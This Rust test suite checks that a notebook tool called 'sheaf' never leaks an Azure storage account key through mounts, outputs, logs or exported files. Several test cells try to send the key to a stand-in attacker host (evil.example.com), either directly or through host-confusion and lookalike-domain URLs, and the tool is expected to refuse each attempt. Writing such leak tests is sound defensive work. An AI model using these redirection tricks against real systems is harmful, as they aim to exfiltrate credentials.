//! The leak suite on mounts: an account's key comes out nowhere, whatever goes wrong with a mount and however it leaves.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use tempfile::TempDir;

use super::azurite::{ACCOUNT, Azurite, Container, KEY};
use crate::secrets::leaks::scanner::{found, found_in_files};
use crate::transcript::approve_scopes;

/// What is tried with a mount, and what is to come of it.
struct Case {
    name: &'static str,
    /// The cells, in which `SOURCE`, `ENDPOINT`, `SETTING` stand for those of the container.
    cells: &'static [&'static str],
    /// What is shown.
    shows: &'static [&'static str],
    fails: bool,
    /// The value of the secret: the key of the account, or one that is wrong.
    value: &'static str,
}

/// A key of another account, which is as good a secret.
const WRONG: &str = "d3Jvbmcta2V5LW9mLWFuLWFjY291bnQtd2hpY2gtaXMtYXMtbG9uZy1hcy1hLXJlYWwtb25lLWlzISE=";

const MOUNT: &str = "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"ENDPOINT\", \"SETTING\": key})";

const CASE: Case = Case {
    name: "",
    cells: &[],
    shows: &[],
    fails: false,
    value: KEY,
};

const CASES: &[Case] = &[
    Case {
        name: "a table is read and shown",
        cells: &[MOUNT, "df = read_csv(\"/mnt/lake/a.csv\")\ndf"],
        shows: &["shape: (2, 1)"],
        ..CASE
    },
    Case {
        name: "a file is written, read and removed",
        cells: &[
            MOUNT,
            "dbutils.fs.put(\"/mnt/lake/new.txt\", \"{0}\".format(key), True)\nprint(dbutils.fs.head(\"/mnt/lake/new.txt\"))",
            "dbutils.fs.rm(\"/mnt/lake/new.txt\")",
        ],
        shows: &["{{secrets/storage/acctkey}}"],
        ..CASE
    },
    Case {
        name: "the mounts are listed",
        cells: &[MOUNT, "print(dbutils.fs.mounts())\ndbutils.fs.mounts()"],
        shows: &["│ /mnt/lake "],
        ..CASE
    },
    Case {
        name: "a file that is not there",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/b.csv\")"],
        shows: &["/mnt/lake/b.csv does not exist"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a wrong key",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/a.csv\")"],
        shows: &["does not accept the credentials"],
        fails: true,
        value: WRONG,
    },
    Case {
        name: "a value that is no key",
        cells: &[MOUNT, "dbutils.fs.ls(\"/mnt/lake\")"],
        shows: &["it is no key of an account"],
        fails: true,
        value: "not+a=key/but&a%secret",
    },
    Case {
        name: "a host that no scope sends to",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"https://evil.example.com/devstoreaccount1\", \"SETTING\": key})",
        ],
        shows: &["the value of {{secrets/storage/acctkey}} may not go to evil.example.com"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a host that a row of data names, beside the true one",
        cells: &[
            "row = \"ENDPOINT\".replace(\"127.0.0.1\", \"127.0.0.1@evil.example.com\")\ndbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": row, \"SETTING\": key})",
        ],
        shows: &["the setting \"endpoint\" cannot be used"],
        fails: true,
        ..CASE
    },
    Case {
        name: "an account that only looks like one of Azure",
        cells: &[
            "dbutils.fs.mount(\"wasbs://data@devstoreaccount1.blob.core.windows.net.evil.example.com\", \"/mnt/lake\", extra_configs={\"SETTING\": key})",
        ],
        shows: &["its host is not one of Azure's storage"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a name that no server has",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"https://no-such-host.invalid/devstoreaccount1\", \"SETTING\": key})",
            "dbutils.fs.ls(\"/mnt/lake\")",
        ],
        shows: &["the host no-such-host.invalid is not known"],
        fails: true,
        ..CASE
    },
    Case {
        name: "the key in a path, a source and a mount point",
        cells: &[
            MOUNT,
            "print([attempt for attempt in [\"/mnt/lake/{0}\".format(key), str(key), f\"{key}\"]])\nread_csv(f\"/mnt/lake/{key}.csv\")",
        ],
        shows: &["{{secrets/storage/acctkey}}.csv does not exist"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a reference that a row of data has and no cell got",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"ENDPOINT\", \"SETTING\": \"{{secrets/storage/other}}\"})",
        ],
        shows: &["{{secrets/storage/other}} is only a text here: no cell of this session got that secret"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a URL with a password in it",
        cells: &["read_csv(\"wasbs://me:hunter22hunter22@acme.blob.core.windows.net/a.csv\")"],
        shows: &["the URL wasbs://…@acme.blob.core.windows.net/a.csv cannot be used"],
        fails: true,
        ..CASE
    },
    Case {
        name: "the source's own URL, and one of another container",
        cells: &[
            MOUNT,
            "print(read_csv(\"SOURCE/a.csv\").height)\nread_csv(\"wasbs://other@devstoreaccount1.blob.core.windows.net/a.csv\")",
        ],
        shows: &["2\n"],
        fails: true,
        ..CASE
    },
];

/// The folders of one case, and the server of its mount.
struct Scene {
    folder: TempDir,
    store: TempDir,
    container: Container,
    value: &'static str,
}

impl Scene {
    fn new(value: &'static str) -> Self {
        let container = Azurite::plain().container();
        container.put("data/a.csv", "x\n1\n2\n");
        let scene = Self {
            folder: tempfile::tempdir().unwrap(),
            store: tempfile::tempdir().unwrap(),
            container,
            value,
        };
        fs::write(scene.store.path().join("acctkey"), value).unwrap();
        fs::write(scene.store.path().join("other"), "another").unwrap();
        for name in ["work", "home", "state", "tmp"] {
            fs::create_dir_all(scene.path(name)).unwrap();
        }
        let text = format!(
            "(secrets: {{\"storage\": (store: folder(path: {:?}), sinks: [\"127.0.0.1\", \"no-such-host.invalid\"])}})\n",
            scene.store.path().display().to_string()
        );
        fs::write(scene.path("work/sheaf.ron"), text).unwrap();
        approve_scopes(&scene.path("work"), &scene.path("state"));
        scene
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn cell(&self, text: &str) -> String {
        text.replace("SOURCE", &self.container.source("data"))
            .replace("ENDPOINT", &self.container.azurite.endpoint())
            .replace(
                "SETTING",
                &format!("fs.azure.account.key.{ACCOUNT}.blob.core.windows.net"),
            )
    }

    fn sheaf(&self, arguments: &[&str], input: &str, leaks: &mut Vec<String>) -> Output {
        let mut child = Command::new(env!("CARGO_BIN_EXE_sheaf"))
            .args(arguments)
            .current_dir(self.path("work"))
            .env_clear()
            .env("HOME", self.path("home"))
            .env("XDG_STATE_HOME", self.path("state"))
            .env("TMPDIR", self.path("tmp"))
            .env("RUST_LOG", "trace")
            .env("RUST_BACKTRACE", "1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Where no input is read, nobody takes it.
        let _ = std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes());
        let output = child.wait_with_output().unwrap();
        for (stream, bytes) in [("output", &output.stdout), ("errors", &output.stderr)] {
            self.search(
                &format!("the {stream} of sheaf {}", arguments.join(" ")),
                bytes,
                leaks,
            );
        }
        output
    }

    fn search(&self, place: &str, bytes: &[u8], leaks: &mut Vec<String>) {
        leaks.extend(found(bytes, self.value).map(|how| format!("{place} ({how})")));
    }

    fn search_files(&self, leaks: &mut Vec<String>) {
        let folders: [&Path; 1] = [self.folder.path()];
        leaks.extend(found_in_files(&folders, self.value, &[]));
    }
}

const GET: &str = "key = dbutils.secrets.get(scope=\"storage\", key=\"acctkey\")";

fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

/// Runs a case from a file, in every way in which results leave a run, and typed.
fn check(case: &Case) -> Vec<String> {
    let mut wrong = Vec::new();
    let scene = Scene::new(case.value);
    let mut leaks = Vec::new();
    let cells: Vec<String> = std::iter::once(GET)
        .chain(case.cells.iter().copied())
        .map(|cell| scene.cell(cell))
        .collect();
    let notebook: String = cells.iter().map(|cell| format!("# %%\n{cell}\n\n")).collect();
    fs::write(scene.path("work/a.py"), notebook).unwrap();
    let ran = scene.sheaf(&["run", "a.py", "--record"], "", &mut leaks);
    let typed = Scene::new(case.value);
    let mut typed_leaks = Vec::new();
    let lines: String = std::iter::once(GET)
        .chain(case.cells.iter().copied())
        .map(|cell| format!("{}\n\n", typed.cell(cell)))
        .collect();
    let shown = typed.sheaf(
        &[],
        &format!("{lines}%save b.py\n%export b.html\n%cells\n%who\n"),
        &mut typed_leaks,
    );
    typed.search_files(&mut typed_leaks);
    for (way, output, fails) in [
        ("headless", &ran, ran.status.code() != Some(0)),
        ("typed", &shown, shown.status.code() != Some(0)),
    ] {
        let shown = text(output);
        let is_shown = |wanted: &&&str| !shown.contains(**wanted);
        wrong.extend(case.shows.iter().filter(is_shown).map(|wanted| {
            format!(
                "{}, {way}: {wanted:?} is not shown in\n{}",
                case.name,
                shown.replace(case.value, "<VALUE>")
            )
        }));
        if fails != case.fails {
            wrong.push(format!(
                "{}, {way}: fails is {fails}\n{}",
                case.name,
                shown.replace(case.value, "<VALUE>")
            ));
        }
    }
    for arguments in [
        &["run", "a.py", "--json"] as &[_],
        &["run", "a.py", "--resume"],
        &["run", "a.py", "--check", "--junit", "report.xml"],
        &["show", "a.py", "--outputs"],
        &["convert", "a.py", "--to", "html", "--out", "a.html"],
        &["convert", "a.py", "--to", "ipynb", "--out", "a.ipynb"],
        &["mount", "list"],
        &["mount", "list", "--json"],
        &["mount", "test", "/mnt/lake"],
        &["mount", "test", "/mnt/lake", "--json"],
        &["trust"],
    ] {
        scene.sheaf(arguments, "", &mut leaks);
    }
    scene.search_files(&mut leaks);
    leaks.extend(typed_leaks);
    wrong.extend(
        leaks
            .iter()
            .map(|leak| format!("{}: the value is in {leak}", case.name)),
    );
    wrong
}

#[test]
fn a_key_of_an_account_comes_out_nowhere() {
    let (one, other) = CASES.split_at(CASES.len() / 2);
    let wrong = std::thread::scope(|scope| {
        let halves =
            [one, other].map(|half| scope.spawn(move || half.iter().flat_map(check).collect::<Vec<_>>()));
        halves.map(|half| half.join().unwrap()).concat()
    });
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_key_that_is_written_in_a_cell_is_in_nothing_that_sheaf_writes_but_the_notebook() {
    let scene = Scene::new(KEY);
    let mut leaks = Vec::new();
    let cell = scene.cell(MOUNT).replace(": key}", &format!(": \"{KEY}\"}}"));
    let lines = format!("{cell}\n\nread_csv(\"/mnt/lake/a.csv\")\n\n%cells\n%who\n");
    let shown = scene.sheaf(&[], &lines, &mut leaks);
    assert_eq!(
        shown.status.code(),
        Some(0),
        "{}",
        text(&shown).replace(KEY, "<VALUE>")
    );
    scene.search_files(&mut leaks);
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    assert!(!scene.path("work/.sheaf/mounts.ron").exists());
}
